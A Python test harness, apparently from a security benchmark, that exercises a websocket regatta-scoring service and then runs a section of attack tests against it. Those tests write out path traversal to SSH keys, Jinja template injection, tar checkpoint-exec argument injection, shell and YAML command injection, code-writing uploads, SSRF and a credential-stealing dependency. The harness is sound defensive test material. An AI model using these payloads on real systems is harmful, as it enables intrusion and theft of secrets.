# SPDX-License-Identifier: Apache-2.0
"""An asynchronous API over websockets."""
import asyncio
import contextlib
import io
import json
import urllib.parse

import attackers
import stage

PEOPLE = {"odile": "officer", "pieter": "officer", "jutta": "judge",
          "marco": "judge", "sam": "spectator", "Anne Marie": "officer",
          "j.o'neill": "judge", "løvås": "officer", "w.van.dijk": "judge"}
YARDSTICK = {
    "__init__.py": "RATINGS = {'laser': 1102, '49er': 697, 'optimist': 1642}"
                   "\n\n\ndef rating(kind):\n"
                   "    return RATINGS.get(kind.lower(), 1000)\n"}
YARDSTICK_NEW = {
    "__init__.py": "from yardstick.table import rating\n",
    "table.py": "import csv\nimport functools\nimport importlib.resources\n"
                "\n\n@functools.lru_cache\ndef table():\n"
                "    place = importlib.resources.files('yardstick')\n"
                "    text = (place / 'data/ratings.csv').read_text()\n"
                "    return dict(csv.reader(text.splitlines()))\n\n\n"
                "def rating(kind):\n"
                "    return int(table().get(kind.lower(), 1000))\n",
    "data/ratings.csv": "laser,1102\n49er,697\noptimist,1642\nfinn,1049\n"}


def picture(kind, side=48):
    """A photo of a finish."""
    from PIL import Image  # pylint: disable=import-outside-toplevel
    data = io.BytesIO()
    Image.new("RGB", (side, side), (20, 90, side % 255)).save(data, kind)
    return data.getvalue()


def listed(boats, kind):
    """Entries as officers write them; boats: (sail, boat, helm)."""
    return "".join(f"- sail: {sail}\n  boat: {boat}\n  helm: {helm}\n"
                   f"  class: {kind}\n" for sail, boat, helm in boats)


class Client:
    """One websocket, which waits for its answers."""

    def __init__(self, port, path="/api"):
        self.loop = asyncio.new_event_loop()
        self.socket = self.until(self.dial(
            f"ws://127.0.0.1:{port}{urllib.parse.quote(path)}"))

    @staticmethod
    async def dial(address):
        import websockets  # pylint: disable=import-outside-toplevel
        return await websockets.connect(address, max_size=None)

    def until(self, waited):
        return self.loop.run_until_complete(asyncio.wait_for(waited, 20))

    def send(self, message):
        self.until(self.socket.send(message))

    def hear(self):
        return self.until(self.socket.recv())

    def ask(self, operation, *messages, **more):
        """What is answered; messages follow the operation."""
        self.send(json.dumps({"op": operation, **more}))
        for message in messages:
            self.send(message)
        answer = self.hear()
        return json.loads(answer) if isinstance(answer, str) else answer

    def close(self):
        self.until(self.socket.close())
        self.loop.close()


class WebsocketsRegatta(stage.Service):
    """Live scores, photos and exports of regattas (websockets, aiosqlite)."""
    packages = ["python3-websockets", "python3-aiosqlite", "python3-yaml",
                "python3-jinja2", "python3-pil"]

    def arrange(self):
        stage.write(self.srv / "regatta.toml", (
            f'[listen]\nhost = "127.0.0.1"\nkey = "not-{stage.SECRET}"\n'
            '[log]\nlevel = "INFO"\n'), 0o600)
        (self.srv / "var/log").mkdir(parents=True)
        self.install("yardstick", "2.3.0", YARDSTICK)
        self.seed("var/accounts.db", self.python, "accounts.py",
                  *("=".join(person) for person in PEOPLE.items()))

    def arrange_benign(self):
        self.install("yardstick", "2.3.1", YARDSTICK_NEW)

    def command(self):
        return [self.python, "regatta.py", self.port("web")]

    def is_ready(self):
        return self.browser().get("/healthz")[0] == 200

    # ------------------------------------------------------------ ordinary use
    @contextlib.contextmanager
    def enter(self, name):
        client = Client(self.port("web"))
        try:
            self.does(client, "login", user=name, password=name[::-1])
            yield client
        finally:
            client.close()

    @contextlib.contextmanager
    def onlooker(self, regatta):
        client = Client(self.port("web"), f"/live/{regatta}")
        try:
            yield client
        finally:
            client.close()

    def does(self, client, operation, *messages, fails="", **more):
        answer = client.ask(operation, *messages, **more)
        is_good = isinstance(answer, bytes) or (
            fails in answer.get("error", "") if fails
            else answer["ok"] and "warning" not in answer)
        self.expect(f"{operation} {more}", is_good, answer)
        return answer

    def takes(self, client, what, start, *messages, **more):
        """An operation that ends with a file."""
        answer = self.does(client, what, *messages, **more)
        if isinstance(answer, dict) and "name" in answer:
            answer = client.hear()
        self.expect(f"{what} {more} holds {start}", isinstance(answer, bytes)
                    and start in answer, answer)

    def race(self, officer, regatta, race, date, rule, boats, kind):
        """From the entries to the last finish."""
        self.does(officer, "race.create", regatta=regatta, race=race,
                  date=date, rule=rule)
        self.does(officer, "entries", listed(boats, kind).encode(),
                  regatta=regatta, race=race)
        with self.onlooker(regatta) as viewer:
            for number, (sail, _, helm) in enumerate(boats):
                self.does(officer, "finish", regatta=regatta, race=race,
                          sail=sail, seconds=1800 + number * 7.5)
                self.expect(f"{helm} is seen", sail in viewer.hear())
        self.does(officer, "corrected", regatta=regatta, race=race,
                  formula="round(t * 1000 / r, 1)")

    def jury(self, name, regatta, race, sail, code, shots, sort):
        """shots: {name: content}, kept together afterwards."""
        with self.enter(name) as judge:
            self.does(judge, "penalty", regatta=regatta, race=race, sail=sail,
                      code=code)
            for shot, data in shots.items():
                self.does(judge, "photo", data, regatta=regatta, race=race,
                          name=shot)
            self.takes(judge, "archive", b"\x1f\x8b", regatta=regatta,
                       race=race, names=list(shots))
            for style in ("csv", "tsv"):
                self.takes(judge, "export", sail.encode(), regatta=regatta,
                           race=race, sort=sort, style=style)
            self.does(judge, "notice", regatta=regatta, text=(
                f"{code} for {sail} at "
                "{{ regatta|upper }}: {{ user }}"))

    def closes(self, officer, regatta, date, path):
        self.does(officer, "wind", regatta=regatta,
                  source=self.site("buoy").url + path)
        self.does(officer, "summary", regatta=regatta, day=date)

    def reads(self, regatta, race, shots, day):
        """A visitor's pages. regatta and race as they stand in addresses."""
        visitor = self.browser()
        self.expect_answer("home", visitor.get("/"), race)
        self.expect_answer("style", visitor.get("/static/regatta.css"), "navy")
        self.expect_answer("script", visitor.get("/static/js/live.js"), "live")
        self.expect_answer(f"board {race}", visitor.get(
            f"/board/{regatta}/{race}"), "<table>")
        for shot in shots:
            self.expect_answer(f"photo {shot}", visitor.get(
                f"/photos/{regatta}/{race}/{shot}"))
            above, _, last = shot.rpartition("/")
            small = f"{above}/small/{last.rpartition('.')[0]}.jpg".lstrip("/")
            self.expect_answer(f"small {shot}", visitor.get(
                f"/photos/{regatta}/{race}/{small}"))
        self.expect_answer(f"summary {day}", visitor.get(
            f"/summaries/{regatta}/{day}.txt"), "boats")
        for path in (self.srv / "var/exports" / regatta).glob(f"{race}*"):
            self.expect_answer(f"export {path.name}", visitor.get(
                f"/exports/{regatta}/{path.name}"), "sail")

    def mistakes(self, day):
        with self.enter("sam") as sam:
            self.does(sam, "finish", fails="is for officer", regatta="x",
                      race="y", sail="z", seconds=1)
            self.does(sam, "standings", fails="no regatta", regatta="none",
                      race="y")
            self.does(sam, "fly", fails="KeyError")
            self.does(sam, "login", fails="wrong password", user="odile",
                      password=f"guess-{day}")
            sam.send("{not json")
            self.expect("no JSON", "JSONDecodeError" in sam.hear())
        with self.enter("jutta") as judge:
            answer = judge.ask("photo", b"\x89PNG broken", regatta="trial",
                               race=f"r{day}", name="broken.png")
            self.expect("broken photo", "warning" in answer, answer)
        visitor = self.browser()
        self.expect_answer("no page", visitor.get("/none"), status=404)
        self.expect_answer("no photo", visitor.get("/photos/x/y/z.jpg"),
                           status=404)

    def train(self, day):
        self.site("buoy").page("*", f"NW {day + 11} kn")
        year = 2025 + day
        for name, regatta, title, races in (
                ("odile", f"Spring {year}", "Spring Series", (
                    ("Race 1", "low_point", "Laser", "jutta", "place",
                     {"start.jpg": "JPEG", f"finish-{day}.png": "PNG"}),
                    ("Race 2", "bonus_point", "Laser", "marco", "sail",
                     {f"mark/IMG_{day}07.jpg": "JPEG",
                      "mark/gybe.png": "PNG"}))),
                ("pieter", f"harbour-cup-{day}", f"Cup no. {day}", (
                    (f"heat-{day}", "bonus_point", "49er", "jutta",
                     "seconds", {f"protest_{day}.jpeg": "JPEG"}),
                    ("final", "low_point", "Optimist", "marco", "helm",
                     {"line/left.png": "PNG", f"line/day{day}.jpg": "JPEG",
                      "crowd.jpg": "JPEG"})))):
            with self.enter(name) as officer:
                self.does(officer, "regatta.open", regatta=regatta,
                          title=title)
                for number, (race, rule, kind, judge, sort, shots) in (
                        enumerate(races)):
                    date = f"{year}-05-{10 * day + number:02}"
                    sails = [f"NED {day}{number}{n}" for n in range(3)]
                    boats = [(sail, f"Boat {sail[-1]}", f"Helm {day}{n}")
                             for n, sail in enumerate(sails)]
                    self.race(officer, regatta, race, date, rule, boats, kind)
                    self.jury(judge, regatta, race, sails[number],
                              ("DNF", "OCS")[number],
                              {name: picture(form, 40 + day + number)
                               for name, form in shots.items()}, sort)
                    self.closes(officer, regatta, date, f"/{date}/now")
                    place = regatta.lower().replace(" ", "-")
                    self.reads(place, race.lower().replace(" ", "-"), shots,
                               date)
            self.mistakes(day)
        self.restart()
        with self.enter("pieter") as officer:
            self.does(officer, "standings", regatta=f"harbour-cup-{day}",
                      race="final")

    def benign(self):
        self.site("buoy").page("*", "SSW 22 kn, gusts 31")
        shots = {"Zieleinlauf (1).JPEG": "JPEG", "a.gif": "GIF",
                 "Leg 2/Mark 3/rounding.2027.09.18.png": "PNG",
                 "b.webp": "WEBP", "scan.tiff": "TIFF"}
        for (name, judge, regatta, place, race, page, date, rule, kind,
             sort, code) in (
                ("Anne Marie", "j.o'neill", "Herbst Regatta 2027",
                 "herbst-regatta-2027", "Gold Fleet, race 3",
                 "gold-fleet-race-3", "2027-09-18", "high_point", "Finn",
                 "boat", "BFD"),
                ("løvås", "w.van.dijk", "v2.1-test", "v2.1-test", "R 12",
                 "r-12", "2031-12-31", "low_point", "Ynglingen", "points",
                 "RET"),
                ("odile", "marco", "Spring 2026", "spring-2026", "Race 1",
                 "race-1", "2026-05-10", "bonus_point", "Laser", "place",
                 "DSQ")):
            boats = [("GER 7", "Möwe", "Grete Groß"),
                     ("FRA-1234", "L'Étoile", "J. P. Dupont"),
                     ("NZL 9", "Kiwi", "Hemi"),
                     ("K/42", "Ja & Nein", "O'Hara")]
            with self.enter(name) as officer:
                self.does(officer, "regatta.open", regatta=regatta,
                          title=f"{regatta} & friends")
                self.race(officer, regatta, race, date, rule, boats, kind)
                self.jury(judge, regatta, race, "NZL 9", code,
                          {shot: picture(form, 61)
                           for shot, form in shots.items()}, sort)
                self.closes(officer, regatta, date,
                            "/stations/north-sea/7?unit=kn")
                self.does(officer, "corrected", regatta=regatta, race=race,
                          formula="t - r / 60 * 1.5")
            self.reads(place, page, shots, date)
        with self.enter("pieter") as officer:
            self.does(officer, "photo", picture("JPEG", 2000) + bytes(600000),
                      regatta="Spring 2026", race="Race 1", name="large.jpg")
            self.does(officer, "summary", fails="invalid", day="2026-02-30",
                      regatta="Spring 2026")
            self.does(officer, "wind", fails="HTTPError", regatta="v2.1-test",
                      source=self.gone())
            self.does(officer, "archive", fails="No such file", names=["gone"],
                      regatta="Spring 2026", race="Race 1")
            self.does(officer, "entries", b"- sail: [", fails="ParserError",
                      regatta="Spring 2026", race="Race 1")
            self.does(officer, "photo", "text", fails="binary", race="r",
                      regatta="Spring 2026", name="text.jpg")
            self.does(officer, "notice", fails="TemplateSyntaxError",
                      regatta="Spring 2026", text="{{ regatta")
            self.does(officer, "race.create", fails="No module", race="x",
                      regatta="Spring 2026", date="2026-05-11", rule="lucky")
        self.mistakes(31)
        visitor = self.browser()
        self.expect_answer("post", visitor.post("/", a="b"), status=400)
        self.expect_answer("board of nothing", visitor.get("/board/no"),
                           status=400)
        self.expect_answer("favicon", visitor.get("/favicon.ico"), status=404)
        with self.onlooker("Spring 2026"), self.onlooker("Ny Regatta"):
            self.restart()
        self.mistakes(4)

    def gone(self):
        self.site("buoy").page("/gone", "", 404)
        return self.site("buoy").url + "/gone"

    def health(self):
        self.site("buoy").page("*", "NW 12 kn")
        with self.enter("odile") as officer:
            self.does(officer, "regatta.open", regatta="Spring 2026",
                      title="Spring Series")
            officer.ask("race.create", regatta="Spring 2026", race="Race 1",
                        date="2026-05-10")
            self.does(officer, "entries", listed(
                [("NED 100", "Boat 0", "Helm 10")], "Laser").encode(),
                      regatta="Spring 2026", race="Race 1")
            self.does(officer, "finish", regatta="Spring 2026", race="Race 1",
                      sail="NED 100", seconds=1800)
            self.does(officer, "photo", picture("JPEG", 41), race="Race 1",
                      regatta="Spring 2026", name="start.jpg")
            self.takes(officer, "export", b"NED 100", regatta="Spring 2026",
                       race="Race 1")
            self.closes(officer, "Spring 2026", "2026-05-10",
                        "/2026-05-10/now")
        self.expect_answer("board", self.browser().get(
            "/board/spring-2026/race-1"), "NED 100")

    # ----------------------------------------------------------------- attacks
    def asks(self, operation, *messages, **more):
        with self.enter("odile") as officer:
            return str(officer.ask(operation, *messages, regatta="Spring 2026",
                                   **more))

    def gets(self, path):
        return self.browser().get(path)[1]

    def renders(self, code):
        return self.asks("notice", text=(
            "{{ cycler.__init__.__globals__.__builtins__." + code + " }}"))

    def evaluates(self, code):
        return self.asks("corrected", race="Race 1", formula=code)

    def enters(self, code):
        return self.asks("entries", attackers.in_yaml(code).encode(),
                         race="Race 1")

    def sends(self, name, data):
        return self.asks("photo", data, race="Race 1", name=name)

    @stage.attack("traversal")
    def photo_is_a_private_key(self):
        self.health()
        return self.is_told(self.gets(
            "/photos/spring-2026/race-1/../../../../../home/.ssh/id_rsa"))

    @stage.attack("source disclosure")
    def style_is_the_source(self):
        return b"HOLE" in self.gets("/static/../regatta.py")

    @stage.attack("secret disclosure")
    def export_is_the_configuration(self):
        return self.is_told(self.gets(
            f"/exports/{self.srv}/regatta.toml"))

    @stage.attack("secret disclosure")
    def summary_is_the_accounts(self):
        return b"SQLite" in self.gets("/summaries/../accounts.db")

    @stage.attack("template injection")
    def notice_reads_a_password(self):
        return self.template_reads(self.renders)

    @stage.attack("template injection")
    def notice_runs_a_command(self):
        return self.template_runs(self.renders)

    @stage.attack("exfiltration")
    def notice_sends_credentials(self):
        return self.template_steals(self.renders)

    @stage.attack("SSRF")
    def wind_is_an_internal_service(self):
        return self.fetches_inside(lambda url: self.asks("wind", source=url))

    @stage.attack("secret disclosure")
    def wind_is_a_local_file(self):
        return self.is_told(self.asks(
            "wind", source=f"file://{self.place}/payroll/2026.csv"))

    @stage.attack("argument injection")
    def archive_runs_a_checkpoint(self):
        return self.runs_line(lambda line: self.asks(
            "archive", race="Race 1", names=[
                "start.jpg", "--checkpoint=1",
                f"--checkpoint-action=exec={line}"]))

    @stage.attack("command injection")
    def summary_runs_a_command(self):
        return self.runs_line(lambda line: self.asks(
            "summary", day=f"2026-05-10' ; {line} ; echo '"))

    @stage.attack("fork+exec")
    def formula_forks(self):
        return self.forks(lambda code: self.evaluates(f"exec({code!r})"))

    @stage.attack("ctypes")
    def formula_calls_libc(self):
        return self.runs_libc(self.evaluates)

    @stage.attack("unsafe yaml")
    def entries_run_a_command(self):
        return self.runs_line(lambda line: self.enters(
            f"__import__('subprocess').call({line!r}, shell=True)"))

    @stage.attack("reverse shell")
    def entries_call_home(self):
        return self.calls_home(self.enters)

    @stage.attack("write to code", fresh=True)
    def photo_becomes_a_rule(self):
        def use(line):
            self.sends("../../../../rules/lucky.py",
                       f"import os\nos.system('{line}')\n".encode())
            self.asks("race.create", race="Race 9", date="2026-05-10",
                      rule="lucky")
        self.health()
        return self.runs_line(use)

    @stage.attack("symlink swap", fresh=True)
    def photo_became_a_link(self):
        self.health()
        self.sends("line.jpg", picture("JPEG"))
        path = self.srv / "var/photos/spring-2026/race-1/line.jpg"
        path.unlink()
        path.symlink_to(self.place / "payroll/2026.csv")
        return self.is_told(self.gets("/photos/spring-2026/race-1/line.jpg"))

    @stage.attack("malicious dependency", fresh=True)
    def yardstick_sends_credentials(self):
        return self.dependency_steals("yardstick", "2.3.1", YARDSTICK,
                                      self.restart)
